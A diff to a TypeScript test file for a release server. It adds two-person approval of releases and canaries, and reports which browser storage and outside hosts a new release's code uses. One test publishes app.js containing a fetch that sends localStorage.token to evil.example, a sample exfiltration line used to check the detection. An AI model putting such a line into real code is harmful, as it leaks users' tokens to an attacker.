@@ -34,7 +34,7 @@ const shell = {
   offers: { 'shared/ui': ['Alert', 'Button'] },
 }
 
-const open = async (timeMs = LIMITS.timeMs): Promise<void> => {
+const open = async (timeMs = LIMITS.timeMs, releaseApproval = false): Promise<void> => {
   site = createSite({
     apiUrl: 'http://127.0.0.1:9',
     apiHost: '',
@@ -47,6 +47,7 @@ const open = async (timeMs = LIMITS.timeMs): Promise<void> => {
     shell: { release: '1', folder: join(folder, 'shell') },
     pdfjsFolder: join(folder, 'pdfjs'),
     uploadLimits: { ...LIMITS, timeMs },
+    releaseApproval,
     logTo: new Writable({
       write(chunk, _encoding, done) {
         log += chunk
@@ -110,7 +111,7 @@ const nothingIsKept = async () => {
 test('publishes, starts a canary, ends it and goes back, and the log says who did', async () => {
   expect(await publish('1')).toEqual({
     status: 200,
-    body: { remote: 'mf_auth', after: { active: '1', fallback: null } },
+    body: { remote: 'mf_auth', after: { active: '1', fallback: null }, added: [] },
   })
   expect((await publish('2', {}, {}, { canary: 5 })).body.after).toEqual({
     active: '1',
@@ -285,6 +286,43 @@ test('two publications at once: both are kept, the later one is live', async () 
   expect(both.map(({ status }) => status)).toEqual([200, 200])
   const entry = await live()
   expect([entry?.active, entry?.fallback].sort()).toEqual(['2', '3'])
+})
+
+test('says what the code of a release names and the live one’s did not', async () => {
+  await publish('1', { 'app.js': 'fetch("/a")' })
+  const { body } = await publish('2', { 'app.js': 'fetch("https://evil.example/"+localStorage.token)' })
+  expect(body.added).toEqual(['guarda en el navegador: localStorage', 'habla con: https://evil.example'])
+})
+
+describe('two people per release', () => {
+  let second: string
+  beforeEach(async () => {
+    await site.close()
+    await open(LIMITS.timeMs, true)
+    second = await createPublisher(dataDir, 'mf_auth', 'Otra persona', NOW)
+  })
+  const approve = (bearer: string, release = '1') => order({ kind: 'approve', release }, bearer)
+
+  test('a release waits until a second token of the remote approves it', async () => {
+    expect(await publish('1')).toEqual({ status: 202, body: { remote: 'mf_auth', waiting: '1', added: [] } })
+    expect(await live()).toBeUndefined()
+    expect((await approve(token)).body.message).toMatch(/con este mismo token: la aprueba otra persona/)
+    const foreign = await createPublisher(dataDir, 'mf_documents', 'Equipo de documentos', NOW)
+    expect((await approve(foreign)).status).toBe(404)
+    expect((await order({ kind: 'to', release: '1' })).body.message).toMatch(/espera que otra persona la apruebe/)
+    expect((await order({ kind: 'to', release: '1' }, second)).status).toBe(422)
+    expect(await live()).toBeUndefined()
+    expect((await approve(second)).body).toMatchObject({ after: { active: '1' } })
+    expect((await approve(second)).status).toBe(404)
+  })
+
+  test('a canary becomes one by its approval; going back needs none', async () => {
+    await publish('1')
+    await approve(second)
+    await publish('2', {}, {}, { canary: 5 })
+    expect((await approve(second, '2')).body.after).toMatchObject({ active: '1', canary: { release: '2', percent: 5 } })
+    expect((await order({ kind: 'to', release: 'previous' })).body.after).toEqual({ active: '1', fallback: null })
+  })
 })
 
 describe('checks against the running shell', () => {
